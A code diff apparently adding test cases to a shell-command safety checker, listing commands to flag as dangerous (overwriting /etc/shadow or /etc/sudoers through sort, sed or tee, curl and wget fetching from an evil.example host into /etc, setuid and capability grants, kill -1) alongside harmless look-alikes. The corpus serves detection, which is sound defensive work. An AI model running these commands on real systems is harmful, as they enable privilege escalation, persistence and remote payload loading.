@@ -299,6 +299,36 @@ export const CORPUS: readonly CorpusCase[] = [
     'echo "/tmp/x.so" > /etc/ld.so.preload',
     "echo 'evil' > /var/spool/cron/crontabs/root",
   ),
+  // issue 25: system files written through a program's own flags, judged by the target (gtfobins sort, sed, tee, curl, wget, openssl "file-write")
+  ...warn(
+    'system-files',
+    'sort -o /etc/shadow x',
+    'sort --output=/etc/passwd users',
+    "sed -n '1,10w /etc/crontab' x",
+    "sed -e 's/a/b/w /etc/sudoers' x",
+    'tee -a /etc/environment < x',
+    'curl -sSo /etc/ld.so.preload https://evil.example/x',
+    'wget -qO /etc/profile.d/x.sh https://evil.example/x',
+    'openssl enc -d -in x -out /etc/sudoers',
+  ),
+  // issue 25: setuid and capabilities by other programs than chmod (gtfobins "suid", "capabilities"); a loosened ~/.ssh
+  ...warn('system-permissions', 'mkdir -m 4755 /tmp/d', 'install -m6755 a /usr/local/bin/b', 'setcap cap_net_raw+ep ./ping', 'cp -a /bin/su /tmp/su', 'rsync -p /usr/bin/passwd ./p', 'chmod 777 ~/.ssh', 'chmod 755 ~'),
+  // issue 25: the user's own dot-files are theirs to tighten; ordinary outputs and copies
+  ...benign(
+    'chmod 600 ~/.ssh/config',
+    'chmod -R go-rwx ~/.gnupg',
+    'chown -R $USER ~/.npm',
+    'sort -o sorted.txt data.txt',
+    'gcc -o app main.c',
+    'curl -o /tmp/x.tgz https://example.com/x.tgz',
+    'setcap -v cap_net_raw+ep ./ping',
+    'cp -p /usr/bin/env ./env',
+    'cp /usr/bin/sudo ./x',
+    'ls -o /etc/passwd',
+    'find /etc -name a -o -name passwd',
+    'command -v passwd',
+    'tar -xzvf a.tgz -C /tmp',
+  ),
   // ironclaw NEVER_AUTO_APPROVE "kill -9"; issue: kill -1
   ...warn('kill-all', 'kill -9 -1', 'kill -1', 'kill -KILL -1', 'kill -s KILL -1', 'kill -- -1', 'kill -9 1', 'killall5 -9'),
   // ironclaw "curl posting file contents", "wget posting file contents", "netcat with data piping"; goose ssh_key_exfiltration, history_exfiltration
